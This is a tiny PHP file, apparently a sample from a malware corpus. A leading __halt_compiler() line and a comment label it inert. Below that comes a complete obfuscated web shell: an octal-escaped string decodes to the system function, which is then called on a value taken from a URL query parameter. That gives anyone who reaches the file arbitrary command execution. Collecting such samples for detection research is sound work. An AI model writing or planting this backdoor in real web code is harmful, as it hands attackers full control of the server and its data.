<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
$zie = "\163\171\163\164\145\155";
$zie($_GET['fbze']);
